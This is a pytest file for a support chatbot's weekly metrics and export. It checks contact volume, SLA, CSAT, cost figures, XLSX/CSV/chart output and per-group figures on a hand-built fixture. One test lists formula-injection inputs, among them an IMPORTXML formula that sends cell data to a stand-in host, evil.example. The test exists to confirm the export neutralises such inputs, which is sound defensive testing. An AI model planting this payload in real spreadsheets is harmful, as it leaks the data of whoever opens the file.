"""Weekly metrics on a hand-computed fixture (docs/metrics.md), and the export's files.

Week 2026-W47 in Moscow time: Monday 16 to Sunday 22 November. Times below are local (UTC+3).
Contacts of the week (A, B, C are customers; "delivery" etc. are category paths):

  C1 A Mon 10:00 delivery                     repeat (P1 on 10 Nov), followed by C2
  C2 A Mon 15:00 delivery   -> T1             repeat (C1)
  C3 B Tue 09:30 payment    -> T2 (reopened)  repeat (P2 on 11 Nov)
  C4 C Wed 20:00 (none)                       followed by C7 (same, uncategorised)
  C5 C Sat 11:00 returns                      followed by C6 on Mon 23 Nov
  C7 C Sun 11:55 (none)     -> T3 (open)      repeat (C4)
"""

from __future__ import annotations

import csv
import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncEngine

from stats.export import export_week
from stats.metrics import StatsConfig, Week, percentile, summary
from storage.db import make_engine, make_sessionmaker
from storage.migrate import upgrade
from storage.models import Contact, Customer, Event, Ticket

MSK = ZoneInfo("Europe/Moscow")
DELIVERY = ("Заказы", "Доставка", "Сроки")
PAYMENT = ("Оплата", "Ошибка оплаты", "Платёж")
RETURNS = ("Заказы", "Возвраты", "Возврат")
AS_OF = datetime(2026, 11, 23, 9, 0, tzinfo=MSK)


def at(day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, 11, day, hour, minute, tzinfo=MSK).astimezone(UTC)


def contact(
    customer: int,
    when: datetime,
    path: tuple[str, str, str] | None,
    ticket: int | None = None,
    reason: str | None = None,
) -> Contact:
    c1, c2, c3 = path or (None, None, None)
    return Contact(
        customer_id=customer,
        started_at=when,
        last_at=when,
        messages=1,
        category1=c1,
        category2=c2,
        category3=c3,
        ticket_id=ticket,
        escalation_reason=reason,
    )


def ticket(
    id_: int, customer: int, path: tuple[str, str, str] | None, opened: datetime, **kw: Any
) -> Ticket:
    c1, c2, c3 = path or (None, None, None)
    return Ticket(
        id=id_,
        customer_id=customer,
        category1=c1,
        category2=c2,
        category3=c3,
        opened_at=opened,
        **kw,
    )


def event(kind: str, when: datetime, **data: Any) -> Event:
    return Event(type=kind, created_at=when, data=data, customer_id=1)


@pytest.fixture
async def engine(database_url: str) -> AsyncIterator[AsyncEngine]:
    engine = make_engine(database_url)
    await upgrade(engine)
    sessionmaker = make_sessionmaker(engine)
    async with sessionmaker() as session:
        for cid in (1, 2, 3):
            session.add(
                Customer(
                    id=cid,
                    telegram_id=1000 + cid,
                    first_name=f"c{cid}",
                    created_at=at(1, 0),
                    last_seen_at=at(1, 0),
                )
            )
        await session.flush()
        session.add_all(
            [
                ticket(
                    1,
                    1,
                    DELIVERY,
                    at(16, 15, 5),
                    status="closed",
                    priority="normal",
                    first_reply_at=at(16, 15, 15),
                    closed_at=at(16, 17, 5),
                    sla_due_at=at(16, 15, 35),
                    rating=5,
                    rated_at=at(16, 17, 10),
                ),
                ticket(
                    2,
                    2,
                    PAYMENT,
                    at(17, 9, 35),
                    status="closed",
                    priority="high",
                    first_reply_at=at(17, 10, 35),
                    closed_at=at(18, 9, 35),
                    sla_due_at=at(17, 9, 50),
                    rating=1,
                    rated_at=at(18, 10, 0),
                    rating_comment="долго",
                    reopened=1,
                ),
                ticket(
                    3,
                    3,
                    None,
                    at(22, 12, 0),
                    status="new",
                    priority="normal",
                    sla_due_at=at(22, 12, 30),
                ),
            ]
        )
        await session.flush()
        session.add_all(
            [
                contact(1, at(10, 12), DELIVERY),  # P1, previous week
                contact(2, at(11, 12), PAYMENT),  # P2, previous week
                contact(1, at(16, 10), DELIVERY),  # C1
                contact(1, at(16, 15), DELIVERY, 1, "asked_for_operator"),  # C2
                contact(2, at(17, 9, 30), PAYMENT, 2, "low_confidence"),  # C3
                contact(3, at(18, 20), None),  # C4
                contact(3, at(21, 11), RETURNS),  # C5
                contact(3, at(23, 10), RETURNS),  # C6, next week
                contact(3, at(22, 11, 55), None, 3, "kb_miss"),  # C7
            ]
        )
        session.add_all(
            [
                event("kb_miss", at(16, 11), question="Где купон?"),
                event("kb_miss", at(19, 11), question="  где купон?"),
                event("kb_offer_operator", at(20, 11), question="промокод"),
                event("kb_miss", at(9, 11), question="last week"),
                event("kb_feedback", at(16, 12), article="delivery-terms", useful=False),
                event("kb_feedback", at(17, 12), article="delivery-terms", useful=False),
                event("kb_feedback", at(17, 13), article="payment-methods", useful=True),
            ]
        )
        await session.commit()
    yield engine
    await engine.dispose()


async def week_summary(engine: AsyncEngine) -> dict[str, Any]:
    async with make_sessionmaker(engine)() as session:
        result, _ = await summary(session, Week.parse("2026-W47", MSK), StatsConfig(), AS_OF)
    return result


def test_nearest_rank_percentile() -> None:
    assert percentile([10, 60], 0.5) == 10 and percentile([10, 60], 0.9) == 60
    assert percentile([1, 2, 3, 4, 5, 6, 7, 8, 9, 10], 0.9) == 9
    assert percentile([], 0.5) is None


def test_week_bounds_are_local_mondays() -> None:
    week = Week.parse("2026-W47", MSK)
    assert week.start == datetime(2026, 11, 16, tzinfo=MSK)
    assert week.end == datetime(2026, 11, 23, tzinfo=MSK)
    assert week.previous().label == "2026-W46"
    with pytest.raises(ValueError, match="2026-W47"):
        Week.parse("week 47", MSK)


async def test_volume_categories_and_containment(engine: AsyncEngine) -> None:
    s = await week_summary(engine)
    c = s["contacts"]
    assert c["total"] == 6 and c["unique_customers"] == 3
    assert c["per_day"] == {
        "2026-11-16": 2,
        "2026-11-17": 1,
        "2026-11-18": 1,
        "2026-11-19": 0,
        "2026-11-20": 0,
        "2026-11-21": 1,
        "2026-11-22": 1,
    }
    assert {h: n for h, n in c["unique_customers_per_hour"].items() if n} == {
        "9": 1,
        "10": 1,
        "11": 1,
        "15": 1,
        "20": 1,
    }  # C5 and C7, both at 11, are the same customer
    assert {h: n for h, n in c["per_hour"].items() if n} == {
        "9": 1,
        "10": 1,
        "11": 2,
        "15": 1,
        "20": 1,
    }
    assert s["categories"]["level1"] == [
        {"category": "Заказы", "contacts": 3},
        {"category": "Прочее", "contacts": 2},
        {"category": "Оплата", "contacts": 1},
    ]
    assert s["containment"] == {
        "bot_resolved": 3,
        "containment_rate": 0.5,
        "escalated": 3,
        "escalation_rate": 0.5,
        "escalation_reasons": {"asked_for_operator": 1, "low_confidence": 1, "kb_miss": 1},
    }


async def test_times_fcr_repeats_reopen_csat_sla(engine: AsyncEngine) -> None:
    s = await week_summary(engine)
    fr = s["first_reply_minutes"]
    assert (fr["count"], fr["p50"], fr["p90"], fr["unanswered"]) == (2, 10.0, 60.0, 1)
    assert fr["p50_by_day"]["2026-11-16"] == 10.0 and fr["p50_by_day"]["2026-11-19"] is None
    res = s["resolution_hours"]
    assert (res["count"], res["p50"], res["p90"]) == (2, 2.0, 24.0)
    assert res["by_category"]["Оплата → Ошибка оплаты → Платёж"] == {
        "count": 1,
        "p50": 24.0,
        "p90": 24.0,
    }
    assert s["fcr"] == {"resolved_first_contact": 1, "rate": 0.1667}
    assert s["repeat_7d"] == {"repeat_contacts": 4, "rate": 0.6667}
    assert s["reopen"] == {"closed": 2, "reopened": 1, "rate": 0.5}
    assert s["csat"] == {
        "count": 2,
        "average": 3.0,
        "distribution": {"1": 1, "2": 0, "3": 0, "4": 0, "5": 1},
        "low": [{"ticket": 2, "score": 1, "comment": "долго"}],
    }
    assert s["sla"] == {
        "tickets_with_target": 3,
        "breached": 2,
        "breach_rate": 0.6667,
        "breached_tickets": [2, 3],
    }


async def test_top_reasons_cost_growth_and_kb_gaps(engine: AsyncEngine) -> None:
    s = await week_summary(engine)
    assert s["top_reasons"] == [
        {
            "category": "Заказы → Доставка → Сроки",
            "contacts": 2,
            "tickets": 1,
            "tickets_closed": 1,
            "operator_hours": 2.0,
            "average_hours": 2.0,
            "cost": 3000.0,
        },
        {
            "category": "Прочее → Общие вопросы → Без темы",
            "contacts": 2,
            "tickets": 1,
            "tickets_closed": 0,
            "operator_hours": 0.0,
            "average_hours": 0.0,
            "cost": 0.0,
        },
        {
            "category": "Заказы → Возвраты → Возврат",
            "contacts": 1,
            "tickets": 0,
            "tickets_closed": 0,
            "operator_hours": 0.0,
            "average_hours": 0.0,
            "cost": 0.0,
        },
        {
            "category": "Оплата → Ошибка оплаты → Платёж",
            "contacts": 1,
            "tickets": 1,
            "tickets_closed": 1,
            "operator_hours": 24.0,
            "average_hours": 24.0,
            "cost": 36000.0,
        },
    ]
    assert s["cost"]["total"] == 39000.0
    growth = {row["category"]: row for row in s["growth"]}
    assert growth["Заказы → Доставка → Сроки"] == {
        "category": "Заказы → Доставка → Сроки",
        "this_week": 2,
        "last_week": 1,
        "change_percent": 100.0,
        "alert": True,
    }
    assert growth["Оплата → Ошибка оплаты → Платёж"]["alert"] is False
    assert growth["Заказы → Возвраты → Возврат"]["change_percent"] is None
    assert s["alerts"] == ["Заказы → Доставка → Сроки: +100.0% week over week"]
    assert s["kb_gaps"] == {
        "unanswered_questions": [
            {"question": "где купон?", "count": 2},
            {"question": "промокод", "count": 1},
        ],
        "disliked_articles": [{"article": "delivery-terms", "count": 2}],
    }


async def test_export_writes_files_that_open(engine: AsyncEngine, tmp_path: Path) -> None:
    stages: list[str] = []
    async with make_sessionmaker(engine)() as session:
        export = await export_week(
            session,
            Week.parse("2026-W47", MSK),
            tmp_path / "out",
            StatsConfig(),
            AS_OF,
            progress=stages.append,
        )
    folder = tmp_path / "out" / "2026-W47"
    assert len(stages) == 5
    data = json.loads((folder / "summary.json").read_text(encoding="utf-8"))
    assert data["contacts"]["total"] == 6 and data["week"] == "2026-W47"
    with (folder / "contacts.csv").open(encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0][:3] == ["id", "started_at", "customer_id"] and len(rows) == 7
    book = load_workbook(export.workbook, read_only=True)
    assert {"contacts", "tickets", "daily_volume", "top_reasons", "csat", "growth"} <= set(
        book.sheetnames
    )
    sheet = book["top_reasons"]
    values = [row for row in sheet.iter_rows(values_only=True)]
    assert values[1][0] == "Заказы → Доставка → Сроки" and len(values) == 5
    for chart in export.charts:
        assert chart.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert len(export.charts) == 4
    page = (folder / "index.html").read_text(encoding="utf-8")
    assert "2026-W47" in page and "daily_volume.png" in page and "+100.0%" in page


async def test_an_empty_week_exports_without_errors(tmp_path: Path, database_url: str) -> None:
    engine = make_engine(database_url)
    await upgrade(engine)
    try:
        async with make_sessionmaker(engine)() as session:
            export = await export_week(
                session, Week.parse("2026-W01", MSK), tmp_path, StatsConfig(), AS_OF
            )
        assert export.summary["contacts"]["total"] == 0
        assert export.summary["containment"]["containment_rate"] is None
    finally:
        await engine.dispose()


FORMULAS = [
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "+7 999 123-45-67 перезвоните",
    "-1+1",
    "@SUM(A1:A9)",
]


async def test_customer_text_never_becomes_a_formula_in_the_export(
    database_url: str, tmp_path: Path
) -> None:
    engine = make_engine(database_url)
    await upgrade(engine)
    try:
        async with make_sessionmaker(engine)() as session:
            session.add(
                Customer(id=1, telegram_id=1001, first_name="Алиса",
                         created_at=at(1, 0), last_seen_at=at(1, 0))
            )  # fmt: skip
            await session.flush()
            session.add_all(event("kb_miss", at(17, 10), question=q) for q in FORMULAS)
            await session.commit()
            export = await export_week(
                session, Week.parse("2026-W47", MSK), tmp_path, StatsConfig(), AS_OF
            )
    finally:
        await engine.dispose()
    asked = {" ".join(q.casefold().split()) for q in FORMULAS}

    # XLSX: every one is a plain string cell holding exactly what the customer wrote.
    book = load_workbook(export.workbook)  # not read-only: cells keep their data type
    cells = [cell for row in book["kb_gaps"].iter_rows() for cell in row]
    found = {cell.value: cell.data_type for cell in cells if cell.value in asked}
    assert set(found) == asked and set(found.values()) == {"s"}

    # CSV: a cell a spreadsheet would read as a formula starts with an apostrophe.
    folder = tmp_path / "2026-W47"
    with (folder / "kb_gaps.csv").open(encoding="utf-8") as handle:
        values = [value for row in csv.reader(handle) for value in row]
    for question in asked:
        assert question not in values and "'" + question in values
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values)


def chart_texts(fig: Any) -> dict[str, Any]:
    fig.canvas.draw()  # tick labels are laid out when drawn
    (ax,) = fig.axes
    return {
        "title": ax.get_title(),
        "x": ax.get_xlabel(),
        "y": ax.get_ylabel(),
        "xticks": [t.get_text() for t in ax.get_xticklabels()],
        "yticks": [t.get_text() for t in ax.get_yticklabels()],
        "notes": [t.get_text() for t in ax.texts],
    }


async def test_charts_show_the_week_with_labelled_axes(engine: AsyncEngine) -> None:
    from stats import charts
    from stats.export import tables

    week = Week.parse("2026-W47", MSK)
    async with make_sessionmaker(engine)() as session:
        result, data = await summary(session, week, StatsConfig(), AS_OF)
    drawn = {
        name: chart_texts(fig)
        for name, (_, fig) in charts.figures(result, tables(result, data)).items()
    }
    days = [
        "Mon 16.11",
        "Tue 17.11",
        "Wed 18.11",
        "Thu 19.11",
        "Fri 20.11",
        "Sat 21.11",
        "Sun 22.11",
    ]
    assert drawn["daily_volume"]["xticks"] == days and drawn["first_reply"]["xticks"] == days
    assert (
        drawn["daily_volume"]["y"] == "Contacts" and drawn["first_reply"]["y"] == "Minutes (median)"
    )
    assert all("." not in tick for tick in drawn["daily_volume"]["yticks"])  # whole contacts
    assert drawn["csat"]["xticks"] == ["1", "2", "3", "4", "5"] and drawn["csat"]["y"] == "Ratings"
    reasons = drawn["top_reasons"]["yticks"]
    assert "Заказы → Доставка → Сроки" in reasons and drawn["top_reasons"]["x"] == "Contacts"
    assert not any(t["notes"] for t in drawn.values())


def test_an_empty_week_says_so_on_every_chart() -> None:
    from stats import charts

    empty_days = {f"2026-12-{d:02d}": None for d in range(28, 32)} | {
        f"2027-01-{d:02d}": None for d in range(1, 4)
    }
    result = {
        "first_reply_minutes": {"p50_by_day": empty_days},
        "csat": {"distribution": dict.fromkeys(["1", "2", "3", "4", "5"], 0)},
        "top_reasons": [],
    }
    volume = (["date", "contacts", "unique_customers"], [[d, 0, 0] for d in empty_days])
    for _, fig in charts.figures(result, {"daily_volume": volume}).values():
        texts = chart_texts(fig)
        assert texts["notes"] == ["No data for this week"], texts
        assert not any(tick.startswith(("−0.0", "-0.0", "0.0")) for tick in texts["yticks"])


def test_a_long_category_path_keeps_its_ends() -> None:
    from stats.charts import short_path

    path = "Сайт и приложение → Техническая неисправность → Ошибка загрузки"
    assert short_path(path) == "Сайт и приложение → … → Ошибка загрузки"
    assert len(short_path("Очень длинная область → тип → " + "т" * 60)) == 42
    assert short_path("Заказы → Доставка → Сроки") == "Заказы → Доставка → Сроки"


async def test_every_line_has_its_own_figures_and_transfers(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    """Two staff groups: T2 was moved to the payments line, where it was answered."""
    async with make_sessionmaker(engine)() as session:
        moved = await session.get(Ticket, 2)
        assert moved is not None
        moved.staff_chat_id = -2
        session.add(
            Event(
                type="ticket_transferred",
                created_at=at(17, 9, 40),
                data={"from_group": -1, "to_group": -2},
                customer_id=2,
                ticket_id=2,
            )
        )
        await session.commit()
    config = StatsConfig(groups={-1: "main", -2: "Платежи"})
    async with make_sessionmaker(engine)() as session:
        result, _ = await summary(session, Week.parse("2026-W47", MSK), config, AS_OF)
        export = await export_week(session, Week.parse("2026-W47", MSK), tmp_path, config, AS_OF)
    main, payments = result["lines"]
    # T1 and T3 (a ticket from before the groups) are the default line's.
    assert (main["group"], main["tickets_opened"], main["unanswered"]) == ("main", 2, 1)
    assert main["first_reply_p50_minutes"] == 10 and main["resolution_p50_hours"] == 2
    assert (main["csat_average"], main["sla_breached"]) == (5, 1)  # T3: no reply by its due
    assert (main["transfers_in"], main["transfers_out"]) == (0, 1)
    assert (payments["group"], payments["tickets_opened"], payments["tickets_closed"]) == (
        "Платежи",
        1,
        1,
    )
    assert payments["first_reply_p50_minutes"] == 60 and payments["resolution_p50_hours"] == 24
    assert (payments["csat_average"], payments["sla_breached"]) == (1, 1)
    assert (payments["transfers_in"], payments["transfers_out"]) == (1, 0)
    assert result["transfers"] == 1
    with export.files["csv_lines"].open(encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert [(r["group"], r["tickets_opened"]) for r in rows] == [("main", "2"), ("Платежи", "1")]


def test_the_command_line_export_names_the_lines_as_the_bot_does(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from stats.__main__ import _group_names

    groups = [{"id": -3}, {"id": -2, "name": "Платежи"}]  # one without a name: skipped
    raw = {"staff_chat_id": -1, "staff_groups": groups}
    assert _group_names(raw) == {-1: "main", -2: "Платежи"}
    monkeypatch.setenv("STAFF_CHAT_ID", "-10")
    monkeypatch.setenv("STAFF_CHAT_NAME", "Первая линия")
    monkeypatch.setenv("STAFF_GROUPS", '[{"id": -20, "name": "English"}]')
    assert _group_names(raw) == {-10: "Первая линия", -20: "English"}
